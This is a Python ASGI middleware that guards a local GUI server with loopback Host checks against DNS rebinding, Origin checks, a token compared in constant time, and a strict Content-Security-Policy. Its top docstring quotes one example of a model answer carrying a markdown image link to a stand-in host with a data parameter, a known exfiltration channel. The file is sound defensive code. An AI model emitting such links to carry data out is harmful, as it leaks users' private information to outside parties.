"""Every request to the GUI's server passes here first: the Host must be this server on loopback (a page of another
site that rebinds its name to 127.0.0.1 is refused), a present Origin must be this server's, and the request must
carry the run's token (query, bearer header or the cookie the first page load sets). No CORS headers are ever sent,
so no other origin can read an answer. Every answer carries a strict Content-Security-Policy: the page loads and
connects to nothing but this server (a model's answer holding ``![x](http://HOST/x.png?d=...)`` fetches nothing),
runs no inline script, and may not be framed."""

import hmac
from urllib.parse import parse_qs

from starlette.datastructures import Headers
from starlette.responses import JSONResponse
from starlette.types import ASGIApp, Message, Receive, Scope, Send

COOKIE = "kairox_token"
CSP = (
    "default-src 'self'; script-src 'self'; style-src 'self'; img-src 'self' data:; connect-src 'self'; "
    "font-src 'self'; object-src 'none'; base-uri 'none'; form-action 'self'; frame-ancestors 'none'"
)
SECURITY_HEADERS = [
    (b"content-security-policy", CSP.encode()),
    (b"x-content-type-options", b"nosniff"),
    (b"referrer-policy", b"no-referrer"),
]


class RequestGuard:
    def __init__(self, app: ASGIApp, *, token: str, port: int) -> None:
        self.app = app
        self.token = token.encode()
        self.hosts = {f"127.0.0.1:{port}", f"localhost:{port}"}
        self.origins = {f"http://{host}" for host in self.hosts}

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] not in ("http", "websocket"):
            await self.app(scope, receive, send)
            return
        if scope["type"] == "http":
            send = _with_headers(send)
        headers = Headers(scope=scope)
        refusal = self._refusal(scope, headers)
        if refusal is not None:
            await self._refuse(scope, receive, send, *refusal)
            return
        await self.app(scope, receive, send)

    def _refusal(self, scope: Scope, headers: Headers) -> tuple[int, str] | None:
        """The status and message a request is refused with, or ``None`` when it may pass."""
        host, origin = headers.get("host", ""), headers.get("origin")
        if host not in self.hosts:
            return 403, f"this server answers only requests for {' or '.join(sorted(self.hosts))}, not Host {host!r}"
        if origin is not None and origin not in self.origins:
            return 403, f"requests from origin {origin!r} are refused; open the GUI at the URL `kairox gui` printed"
        if not self._has_token(scope, headers):
            return 401, "this server needs its token: open the URL `kairox gui` printed (it holds ?token=...)"
        return None

    def _has_token(self, scope: Scope, headers: Headers) -> bool:
        offered: list[str] = []
        query = parse_qs(scope.get("query_string", b"").decode("latin-1"))
        offered += query.get("token", [])
        authorization = headers.get("authorization", "")
        if authorization.lower().startswith("bearer "):
            offered.append(authorization[7:].strip())
        for part in headers.get("cookie", "").split(";"):
            name, _, value = part.strip().partition("=")
            if name == COOKIE:
                offered.append(value)
        return any(hmac.compare_digest(given.encode(), self.token) for given in offered)

    @staticmethod
    async def _refuse(scope: Scope, receive: Receive, send: Send, status: int, message: str) -> None:
        if scope["type"] == "websocket":
            await send({"type": "websocket.close", "code": 1008})
            return
        await JSONResponse({"error": message}, status_code=status)(scope, receive, send)


def _with_headers(send: Send) -> Send:
    """``send`` that adds :data:`SECURITY_HEADERS` to the start of every answer (those it does not set itself)."""

    async def sending(message: Message) -> None:
        if message["type"] == "http.response.start":
            headers = list(message.get("headers", []))
            present = {name.lower() for name, _ in headers}
            headers += [(name, value) for name, value in SECURITY_HEADERS if name not in present]
            message = {**message, "headers": headers}
        await send(message)

    return sending
